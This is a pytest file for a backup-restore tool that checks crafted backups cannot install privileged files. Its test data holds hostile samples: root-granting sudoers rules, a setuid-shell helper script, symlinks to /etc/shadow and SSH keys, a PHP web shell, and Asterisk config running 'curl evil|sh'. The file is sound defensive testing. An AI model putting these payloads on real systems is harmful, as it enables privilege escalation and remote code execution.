"""Privileged files from a backup file: sudoers rules and the scripts root
runs for the account are installed only where flexgit would write the same,
or with --trust-privileged and a confirmation (docs/decisions.md
"Privileged files from a backup"). Crafted files, real visudo, real users."""

from __future__ import annotations

import json
import os
import pwd
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from flexgit import sample
from flexgit.cli import cli
from flexgit.profile import Profile
from flexgit.restore import sudoers
from tests.conftest import Env, requires_root, tree_state, which_or_skip
from tests.restore.crafted import craft, exported

SUDOERS = "system/etc/sudoers.d/flexpbx-asterisk"
HELPER = "system/usr/local/bin/flexpbx-backup-helper"
ROOT_ALL = b"ALL ALL=(ALL) NOPASSWD: ALL\n"
EVIL_HELPER = b"#!/bin/sh\ncp /bin/sh /tmp/rootsh && chmod 4755 /tmp/rootsh\n"


@pytest.fixture
def owned(tmp_path: Path, two_users: tuple[str, str]) -> Iterator[Env]:
    """The sample installation in the home of a real account that owns it."""
    which_or_skip("visudo")
    bob = two_users[0]
    root = tmp_path / "root"
    home = root / "home" / bob
    home.mkdir(parents=True)
    s = sample.build(home, root, user=bob)
    subprocess.run(["chown", "-R", f"{bob}:{bob}", str(home)], check=True)
    yield Env(s, tmp_path / "store.git", tmp_path)


def _attack(env: Env) -> Path:
    """The testers' backup: sudo for everyone, a replaced root helper, a
    world-writable second helper, and two links out of the web root."""
    return craft(exported(env, env.tmp / "out"), env.tmp / "attack.flx",
                 files={SUDOERS: ROOT_ALL, HELPER: EVIL_HELPER},
                 links={"home/public_html/s": "/etc/shadow",
                        "home/public_html/k": "../backup/private.git"})


def _run(env: Env, *args: str, home: Path | None = None) -> tuple[int, str, str]:
    r = CliRunner().invoke(cli, ["--home", str(home or env.home), "--root", str(env.root),
                                 "--repo", str(env.repo), *args])
    return r.exit_code, r.stdout, r.stderr


def _visudo_ok(path: Path) -> None:
    subprocess.run(["visudo", "-c", "-q", "-f", str(path)], check=True, capture_output=True)


# --- the sudoers check ----------------------------------------------------------

# Each parses (visudo -c passes the ones it can check alone) and grants more
# than flexgit's rules for {u}.
ATTACKS = [
    "ALL ALL=(ALL) NOPASSWD: ALL",
    "{u} ALL=(ALL) NOPASSWD: ALL",
    "{u} ALL=(ALL:ALL) NOPASSWD: /usr/sbin/asterisk -rx *",
    "{u} ALL=(:ALL) NOPASSWD: /usr/sbin/asterisk -rx *",
    "{u} ALL=(root) NOPASSWD: ALL",
    "opsadmin ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *",
    "%{u} ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *",
    "#0 ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *",
    "{u} ALL=(root) NOPASSWD: /bin/*",
    "{u} ALL=(root) NOPASSWD: /usr/local/bin/*",
    "{u} ALL=(root) NOPASSWD: /usr/local/bin/flexpbx-../../../bin/sh",
    "{u} ALL=(root) NOPASSWD: /USR/SBIN/ASTERISK -rx *",
    "{u} ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *, /bin/sh",
    "{u} ALL=(root) NOPASSWD:SETENV: /usr/sbin/asterisk -rx *",
    "{u} ALL=(root) NOPASSWD: sudoedit /etc/shadow",
    "Cmnd_Alias FLEXPBX_CMDS = /usr/sbin/asterisk -rx *, /bin/bash\n"
    "{u} ALL=(root) NOPASSWD: FLEXPBX_CMDS",
    "Cmnd_Alias X = /bin/sh\n{u} ALL=(root) NOPASSWD: X",
    "User_Alias FLEXADMINS = {u}, opsadmin\n"
    "FLEXADMINS ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *",
    "Runas_Alias R = ALL\n{u} ALL=(R) NOPASSWD: /usr/sbin/asterisk -rx *",
    "Defaults !env_reset\n{u} ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *",
    "Defaults env_keep+=LD_PRELOAD\n{u} ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *",
    "Defaults:{u} env_keep+=LD_PRELOAD",
    "Defaults:{u} !requiretty, !env_reset",
    "Defaults:opsadmin !requiretty",
    "#includedir /etc/flexpbx-evil.d",
    "@includedir /etc/flexpbx-evil.d",
    "@include /etc/flexpbx-evil",
    "#include /etc/flexpbx-evil",
    "# a comment that ends in a backslash \\\n{u} ALL=(root) NOPASSWD: ALL",
    "{u} ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *,\\\n /bin/sh",
    "{u} ALL=(root) NOPASSWD: !/bin/sh, /usr/sbin/asterisk -rx *",
    "{u} ALL=(root) NOPASSWD: /usr/local/bin/flexpbx-x, /home/{u}/public_html/tool.sh",
    "{u} ALL=(root) NOPASSWD: sha224:0123456789abcdef0123456789abcdef0123456789abcdef01234567"
    " /bin/sh",
    "{u} pbx01=(root) NOPASSWD: /bin/sh",
    "{u} ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *\u00a0, /bin/sh",
    "{u}\tALL=(root)\tNOPASSWD:\t/usr/sbin/asterisk -rx *\r, /bin/sh",
    "#-1 ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *",
    "Cmnd_Alias ALL = /usr/sbin/asterisk -rx *\n{u} ALL=(root) NOPASSWD: ALL",
    "{u},opsadmin ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *",
    "Defaults:{u},opsadmin !requiretty",
    "Defaults:{u} !requiretty,\\\n env_keep+=LD_PRELOAD",
    "{u} ALL=(root) NOPASSWD: /usr/local/bin/flexpbx-*/../../../bin/sh",
    "{u} ALL=(root) NOPASSWD: /usr/local/bin/flexpbx-[a-z]*",
    "{u} ALL=(root) NOPASSWD: PASSWD: /bin/sh",
    "defaults:{u} !requiretty",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_sudoers_attacks_grant_more_than_flexgit(text: str) -> None:
    data = (text.format(u="fgpbx") + "\n").encode()
    assert sudoers.beyond(data, "fgpbx", Profile()) is not None


def test_visudo_alone_accepts_the_attacks(tmp_path: Path) -> None:
    """What the check is for: `visudo -c` passes most of them (syntax, not meaning)."""
    which_or_skip("visudo")
    accepted = 0
    for n, text in enumerate(ATTACKS):
        f = tmp_path / f"s{n}"
        f.write_text(text.format(u="fgpbx") + "\n")
        r = subprocess.run(["visudo", "-c", "-q", "-f", str(f)], capture_output=True)
        accepted += r.returncode == 0
    assert accepted >= len(ATTACKS) - 5  # measured: includes of missing files, a CR, ALL, case
    f = tmp_path / "root-all"
    f.write_bytes(ROOT_ALL)
    _visudo_ok(f)


def test_flexgit_rules_and_the_original_snippet_pass(tmp_path: Path) -> None:
    which_or_skip("visudo")
    rules = sudoers.flexgit_rules("fgpbx", Profile())
    assert sudoers.beyond(rules, "fgpbx", Profile()) is None
    assert b"fgpbx ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx *, /usr/local/bin/flexpbx-*" \
        in rules
    f = tmp_path / "rules"
    f.write_bytes(rules)
    _visudo_ok(f)
    # The original tool's snippet, with its alias and continuation lines.
    s = sample.build(tmp_path / "h", tmp_path / "r", user="fgpbx")
    original = (s.root / "etc/sudoers.d/flexpbx-asterisk").read_bytes()
    # Its alias is global to all of sudoers: from a backup file it is not
    # flexgit's to install; installed already, installing it again grants nothing.
    why = sudoers.beyond(original, "fgpbx", Profile())
    assert why is not None and "defines an alias" in why
    assert sudoers.beyond(original, "fgpbx", Profile(), installed=original) is None
    assert sudoers.beyond(original, "otheruser", Profile(), installed=b"") is not None


@pytest.mark.parametrize("text", [
    # An outside red team's forms (2026-12-02): an alias /etc/sudoers already
    # defines means its first definition (sudo keeps it), and a second
    # definition of FLEXPBX_CMDS in another file breaks sudo host-wide.
    b"Cmnd_Alias SHELLS = /usr/local/bin/flexpbx-x\nfgpbx ALL=(root) NOPASSWD: SHELLS\n",
    b"Cmnd_Alias FLEXPBX_CMDS = /usr/sbin/asterisk -rx *\n",
    b"Runas_Alias OP = root\nfgpbx ALL=(OP) NOPASSWD: /usr/local/bin/flexpbx-x\n",
])
def test_aliases_from_a_backup_are_refused(text: bytes) -> None:
    assert sudoers.beyond(text, "fgpbx", Profile()) is not None


@requires_root
def test_an_imported_backup_is_not_an_own_snapshot(owned: Env) -> None:
    # The file's manifest names this home and host: imported, it is still the
    # file's word, and `restore latest` must not trust its privileged files.
    bad = _attack(owned)
    sudo_file = owned.root / "etc/sudoers.d/flexpbx-asterisk"
    before = sudo_file.read_bytes()
    code, _out, err = _run(owned, "-y", "import", str(bad))
    assert code in (0, 3), err
    code, _out, err = _run(owned, "-y", "restore", "latest")
    assert code == 3, err
    assert sudo_file.read_bytes() == before
    assert f"warning: {SUDOERS} was not restored" in err


@requires_root
def test_a_store_the_account_can_write_is_not_trusted_by_root(owned: Env) -> None:
    from flexgit.restore.trust import only_root_writes

    owned.run("snapshot")
    assert only_root_writes(owned.repo)
    bob = owned.home.name
    subprocess.run(["chown", "-R", f"{bob}:{bob}", str(owned.repo)], check=True)
    assert not only_root_writes(owned.repo)
    owned.repo.chmod(0o777)
    subprocess.run(["chown", "-R", "root:root", str(owned.repo)], check=True)
    assert not only_root_writes(owned.repo)


@requires_root
def test_modes_owners_and_links_to_privileged_files_from_a_backup(owned: Env) -> None:
    conf = "system/etc/asterisk/extensions.conf"
    bad = craft(exported(owned, owned.tmp / "out"), owned.tmp / "modes.flx",
                files={conf: (owned.root / "etc/asterisk/extensions.conf").read_bytes()
                       + b"; edited\n"},
                modes={conf: "6777"},
                links={"system/etc/asterisk/zz.conf":
                       "../../usr/local/bin/flexpbx-toggle-permissions",
                       "system/etc/asterisk/zy.conf": "../sudoers.d/flexpbx-asterisk"})
    code, _out, err = _run(owned, "-y", "restore", "-m", "merge", str(bad))
    assert code == 3, err
    st = (owned.root / "etc/asterisk/extensions.conf").stat()
    assert stat.S_IMODE(st.st_mode) & 0o7002 == 0, oct(st.st_mode)
    for name in ("zz.conf", "zy.conf"):
        assert not os.path.lexists(owned.root / "etc/asterisk" / name)
        assert f"warning: system/etc/asterisk/{name} was not restored: the symlink -> " in err
    assert "leads to a privileged file" in err


# --- restores of a crafted backup -------------------------------------------------


@requires_root
@pytest.mark.parametrize("mode", ["merge", "fresh"])
def test_crafted_backup_keeps_privileged_files(owned: Env, mode: str) -> None:
    bad = _attack(owned)
    sudo_file = owned.root / "etc/sudoers.d/flexpbx-asterisk"
    helper = owned.root / "usr/local/bin/flexpbx-backup-helper"
    before = sudo_file.read_bytes(), helper.read_bytes()
    code, out, err = _run(owned, "-y", "restore", "-m", mode, str(bad))
    assert code == 3, err
    assert (sudo_file.read_bytes(), helper.read_bytes()) == before
    assert f"warning: {SUDOERS} was not restored: line 1: `ALL ALL=(ALL) NOPASSWD: ALL` is " \
        "not a rule flexgit writes" in err
    assert f"warning: {HELPER} was not restored: a file root runs that flexgit did not " \
        "write" in err
    for name, why in (("s", "-> /etc/shadow points outside the installation"),
                      ("k", "-> ../backup/private.git points into the backup directory")):
        assert not os.path.lexists(owned.home / "public_html" / name)
        assert f"warning: home/public_html/{name} was not restored: the symlink {why}" in err
    # The rest restored: the link inside the installation is there.
    assert (owned.home / "public_html/index.php").is_symlink()
    assert "restored" in out


@requires_root
def test_crafted_backup_migrate(owned: Env, two_users: tuple[str, str]) -> None:
    alice = two_users[1]
    bad = _attack(owned)
    sudo_file = owned.root / "etc/sudoers.d/flexpbx-asterisk"
    before = sudo_file.read_bytes()
    code, _out, err = _run(owned, "-y", "restore", "-m", "migrate", "-u", alice, str(bad))
    assert code == 3, err
    assert sudo_file.read_bytes() == before  # bob's rules: untouched
    assert f"{SUDOERS} was not restored" in err
    target = owned.root / "home" / alice
    assert (target / "public_html/portal/index.php").is_file()
    assert not os.path.lexists(target / "public_html/s")
    assert not os.path.lexists(target / "public_html/k")


@requires_root
def test_fresh_machine_gets_flexgits_rules_not_the_backups(owned: Env, tmp_path: Path,
                                                           two_users: tuple[str, str]) -> None:
    """Nothing installed yet: the account still gets sudo for its commands,
    the ones flexgit writes, never the backup's ALL."""
    bad = _attack(owned)
    bob = two_users[0]
    root2 = tmp_path / "root2"
    home2 = root2 / "home" / bob
    home2.mkdir(parents=True)
    subprocess.run(["chown", f"{bob}:{bob}", str(home2)], check=True)
    r = CliRunner().invoke(cli, ["--home", str(home2), "--root", str(root2), "--repo",
                                 str(tmp_path / "store2.git"), "-y", "restore", "-m", "fresh",
                                 str(bad)])
    assert r.exit_code == 3, r.stderr
    installed = root2 / "etc/sudoers.d/flexpbx-asterisk"
    assert installed.read_bytes() == sudoers.flexgit_rules(bob, Profile())
    assert stat.S_IMODE(installed.stat().st_mode) == 0o440
    _visudo_ok(installed)
    assert "flexgit's own rules for " + bob + " were written instead" in r.stderr
    # Scripts nobody vouched for are not installed at all.
    assert not os.path.lexists(root2 / "usr/local/bin/flexpbx-backup-helper")
    assert not os.path.lexists(root2 / "usr/local/bin/flexpbx-toggle-permissions")


@requires_root
def test_second_sudoers_file_and_helper_mode(owned: Env) -> None:
    src = exported(owned, owned.tmp / "out")
    helper = owned.root / "usr/local/bin/flexpbx-toggle-permissions"
    bad = craft(src, owned.tmp / "bad.flx", files={
        "system/etc/sudoers.d/flexpbx-zz": b"Defaults !env_reset\nDefaults env_keep+=LD_PRELOAD\n",
        "system/usr/local/bin/flexpbx-new": b"#!/bin/sh\nexec /bin/sh\n",
        "system/usr/local/bin/flexpbx-toggle-permissions": helper.read_bytes()},
        modes={"system/usr/local/bin/flexpbx-new": "0755"})
    # The same helper, world-writable: the account could edit what root runs.
    doc = json.loads(bad.read_text())
    for e in doc["files"]:
        if e["path"] == "usr/local/bin/flexpbx-toggle-permissions":
            e["mode"] = "0777"
    bad.write_text(json.dumps(doc))
    code, _out, err = _run(owned, "-y", "restore", str(bad))
    assert code == 3, err
    assert not os.path.lexists(owned.root / "etc/sudoers.d/flexpbx-zz")
    assert not os.path.lexists(owned.root / "usr/local/bin/flexpbx-new")
    assert stat.S_IMODE(helper.stat().st_mode) == 0o755
    assert "system/etc/sudoers.d/flexpbx-zz was not restored: line 1: `Defaults !env_reset`" \
        in err
    # 0777 is bounded to 0755 before the review (restore/perms.py): the helper
    # is as installed, so nothing about it needs to be refused.
    assert "flexpbx-toggle-permissions" not in err


@requires_root
def test_dry_run_shows_the_privileged_diff(owned: Env) -> None:
    bad = _attack(owned)
    before = tree_state(owned.home, owned.root)
    code, out, err = _run(owned, "restore", "--dry-run", str(bad))
    assert code == 0, err
    assert f"  privileged {SUDOERS}: line 1: `ALL ALL=(ALL) NOPASSWD: ALL` is not a rule " \
        "flexgit writes; not trusted: skipped" in out
    assert f"--- installed/{SUDOERS}" in out and "+ALL ALL=(ALL) NOPASSWD: ALL" in out
    assert "+cp /bin/sh /tmp/rootsh && chmod 4755 /tmp/rootsh" in out
    assert tree_state(owned.home, owned.root) == before


@requires_root
def test_trust_privileged_applies_after_the_confirmation(owned: Env) -> None:
    bad = _attack(owned)
    helper = owned.root / "usr/local/bin/flexpbx-backup-helper"
    before = tree_state(owned.home, owned.root)
    code, _out, err = _run(owned, "restore", "--trust-privileged", str(bad))
    assert code == 2
    assert "refusing to restore without confirmation" in err
    assert tree_state(owned.home, owned.root) == before
    code, _out, err = _run(owned, "-y", "restore", "--trust-privileged", str(bad))
    assert code == 3, err  # the links are still skipped
    assert (owned.root / "etc/sudoers.d/flexpbx-asterisk").read_bytes() == ROOT_ALL
    assert helper.read_bytes() == EVIL_HELPER
    st = helper.stat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (0, 0, 0o755)
    assert not os.path.lexists(owned.home / "public_html/s")


@requires_root
def test_honest_backup_file_round_trip_needs_no_trust(owned: Env) -> None:
    src = exported(owned, owned.tmp / "out")
    code, _out, err = _run(owned, "-y", "restore", str(src))
    assert code == 0, err
    assert "privileged" not in err


def _git(repo: Path, *args: str, input: bytes | None = None,
         index: Path | None = None) -> str:
    extra = {"GIT_INDEX_FILE": str(index)} if index else {}
    extra.update({f"GIT_{who}_{what}": val for who in ("AUTHOR", "COMMITTER")
                  for what, val in (("NAME", "other host"), ("EMAIL", "o@example.org"))})
    return subprocess.run(["git", "--git-dir", str(repo), *args], input=input, check=True,
                          capture_output=True, env={**os.environ, **extra}).stdout.decode().strip()


@requires_root
@pytest.mark.parametrize("where", ["fetched", "branch"])
def test_a_snapshot_that_is_not_on_the_own_branch_is_not_own(owned: Env, where: str) -> None:
    """Another host that pushes to the central repository copies this host's
    snapshot, changes the sudoers file and keeps the manifest (this home,
    this host): fetched, or put on another branch of the store, it is that
    host's word, not this installation's snapshot."""
    assert owned.run("snapshot").exit_code == 0
    head = _git(owned.repo, "rev-parse", "refs/heads/main")
    central = owned.tmp / "central.git"
    _git(central, "init", "-q", "--bare")
    _git(owned.repo, "push", "-q", str(central), f"{head}:refs/heads/seed")
    blob = _git(central, "hash-object", "-w", "--stdin", input=ROOT_ALL)
    index = owned.tmp / "index"
    _git(central, "read-tree", head, index=index)
    _git(central, "update-index", "--cacheinfo", f"100644,{blob},{SUDOERS}", index=index)
    tree = _git(central, "write-tree", index=index)
    msg = _git(central, "log", "-1", "--format=%B", head)
    evil = _git(central, "commit-tree", tree, "-p", head, "-m", msg)
    ref = "refs/heads/flexgit/otherhost/evil"
    _git(central, "update-ref", ref, evil)
    if where == "fetched":
        assert owned.run("remote", "add", "central", str(central)).exit_code == 0
        r = owned.run("fetch", "central")
        assert r.exit_code == 0, r.output
        rev = "refs/remotes/central/flexgit/otherhost/evil"
    else:
        _git(owned.repo, "fetch", "-q", str(central), f"{ref}:refs/heads/other")
        rev = "refs/heads/other"
    sudo_file = owned.root / SUDOERS.removeprefix("system/")
    before = sudo_file.read_bytes()
    code, _out, err = _run(owned, "-y", "restore", rev)
    assert code == 3, err
    assert sudo_file.read_bytes() == before
    assert f"warning: {SUDOERS} was not restored" in err


@requires_root
def test_own_snapshot_is_trusted_as_before(owned: Env) -> None:
    r = owned.run("snapshot")
    assert r.exit_code == 0, r.output
    helper = owned.root / "usr/local/bin/flexpbx-backup-helper"
    helper.write_bytes(b"#!/bin/sh\necho changed\n")
    code, _out, err = _run(owned, "-y", "restore", "latest")
    assert code == 0, err
    # The snapshot's helper (its DB password is new: the live one was gone).
    assert b"mysqldump --single-transaction" in helper.read_bytes()
    assert "privileged" not in err


# --- symlinks -------------------------------------------------------------------


@requires_root
@pytest.mark.parametrize(("link", "target", "why"), [
    ("home/public_html/s", "/etc/shadow", "points outside the installation"),
    ("home/public_html/r", "../../../../../../etc/shadow", "points outside the installation"),
    ("home/public_html/k", "../backup/private.git", "points into the backup directory"),
    ("home/public_html/K", "/{home}/backup", "points into the backup directory"),
    ("home/public_html/h", "..", "leads to the home itself, backup directory included"),
    ("home/public_html/c", "portal/../../backup/flexgit.git",
     "points into the backup directory"),
    ("home/public_html/a", "/etc/asterisk/pjsip.conf", "exposes a system file in the home"),
    ("home/public_html/k.txt", "../.ssh/id_ed25519",
     "publishes .ssh/id_ed25519 of the home, outside the web root"),
    ("home/public_html/u", "../users", "publishes users of the home, outside the web root"),
    ("home/public_html/portal/t", "../../temp_passwords/2003.json",
     "publishes temp_passwords/2003.json of the home, outside the web root"),
    ("home/public_html/c.json", "/{home}/flexpbx-config.json",
     "publishes flexpbx-config.json of the home, outside the web root"),
    ("home/public_html/h.txt", "portal/../../.bash_history",
     "publishes .bash_history of the home, outside the web root"),
    ("system/etc/asterisk/x.conf", "/{home}/public_html/x.conf",
     "makes a system file the account's"),
    ("system/usr/local/bin/flexpbx-up", "/{home}/public_html/tool.sh",
     "makes a system file the account's"),
    ("system/etc/asterisk/y.conf", "../shadow", "points outside the installation"),
])
def test_links_out_of_the_installation_skipped(owned: Env, link: str, target: str,
                                               why: str) -> None:
    target = target.replace("/{home}", str(owned.home))
    bad = craft(exported(owned, owned.tmp / "out"), owned.tmp / "bad.flx",
                links={link: target, "home/public_html/fine": "portal/index.php"})
    code, _out, err = _run(owned, "-y", "restore", str(bad))
    assert code == 3, err
    side, _, rel = link.partition("/")
    assert not os.path.lexists((owned.home if side == "home" else owned.root) / rel)
    assert f"warning: {link} was not restored: the symlink -> {target} {why}" in err
    assert os.readlink(owned.home / "public_html/fine") == "portal/index.php"


@requires_root
def test_link_chain_through_the_disk(owned: Env) -> None:
    """A link that looks inside by its text, but goes through a link on disk
    that points at the home: followed as the kernel would, it leaves."""
    (owned.home / "public_html/top").symlink_to(owned.home)
    bad = craft(exported(owned, owned.tmp / "out"), owned.tmp / "bad.flx",
                links={"home/public_html/x": "top/../../etc"})
    code, _out, err = _run(owned, "-y", "restore", str(bad))
    assert code == 3, err
    assert not os.path.lexists(owned.home / "public_html/x")


@requires_root
def test_entry_under_a_link_in_the_same_file_refused(owned: Env) -> None:
    """A link and then a file under it, in one backup file: the file is refused
    as a whole before anything is written."""
    outside = owned.tmp / "outside"
    outside.mkdir()
    bad = craft(exported(owned, owned.tmp / "out"), owned.tmp / "bad.flx",
                links={"home/public_html/d": str(outside)},
                files={"home/public_html/d/evil.php": b"<?php system($_GET['c']);\n"})
    before = tree_state(owned.home, owned.root)
    code, _out, err = _run(owned, "-y", "restore", str(bad))
    assert code == 1
    assert err == f"Error: {bad}: public_html/d: is also a directory " \
        "('home/public_html/d/evil.php' is below it)\n"
    assert list(outside.iterdir()) == []
    assert tree_state(owned.home, owned.root) == before


@requires_root
def test_entry_under_a_disk_link_writes_nothing_outside(owned: Env) -> None:
    outside = owned.tmp / "outside"
    outside.mkdir()
    bad = craft(exported(owned, owned.tmp / "out"), owned.tmp / "bad.flx",
                files={"home/public_html/d/evil.php": b"<?php system($_GET['c']);\n"})
    (owned.home / "public_html/d").symlink_to(outside)
    code, _out, err = _run(owned, "-y", "restore", str(bad))
    assert code == 0, err
    assert list(outside.iterdir()) == []
    assert pwd.getpwuid(outside.stat().st_uid).pw_name == "root"


# --- Asterisk configuration that runs commands (restore/commands.py) ---------------

ASTERISK_CONF = "system/etc/asterisk/asterisk.conf"
EXTENSIONS = "system/etc/asterisk/extensions.conf"


@requires_root
@pytest.mark.parametrize("mode", ["merge", "fresh"])
def test_asterisk_config_that_runs_commands_needs_trust(owned: Env, mode: str) -> None:
    ext = owned.root / "etc/asterisk/extensions.conf"
    before = ext.read_bytes()
    evil_ext = before + b"#exec /bin/sh -c 'id > /tmp/x'\n[from-internal]\n" \
        b"exten => 666,1,System(/bin/sh -c 'curl evil|sh')\n"
    evil_conf = b"[options]\nrunuser = root\nrungroup = root\nexecincludes = yes\n" \
        b"[directories]\nastmoddir => /tmp/evilmods\n[files]\nastctlpermissions = 0666\n"
    bad = craft(exported(owned, owned.tmp / "out"), owned.tmp / "ast.flx",
                files={EXTENSIONS: evil_ext, ASTERISK_CONF: evil_conf})
    code, out, err = _run(owned, "restore", "--dry-run", "-m", mode, str(bad))
    assert code == 0, err
    assert f"  privileged {EXTENSIONS}: Asterisk would run commands the installed file " \
        "does not: #exec, System(); not trusted: skipped" in out
    assert "+runuser = root" in out
    code, out, err = _run(owned, "-y", "restore", "-m", mode, str(bad))
    assert code == 3, err
    assert ext.read_bytes() == before
    assert not (owned.root / "etc/asterisk/asterisk.conf").exists()
    assert f"warning: {ASTERISK_CONF} was not restored: Asterisk would run commands the " \
        "installed file does not: runuser=, rungroup=, execincludes=, astmoddir=, " \
        "astctlpermissions=" in err
    code, out, err = _run(owned, "-y", "restore", "-m", mode, "--trust-privileged", str(bad))
    assert ext.read_bytes() == evil_ext, err
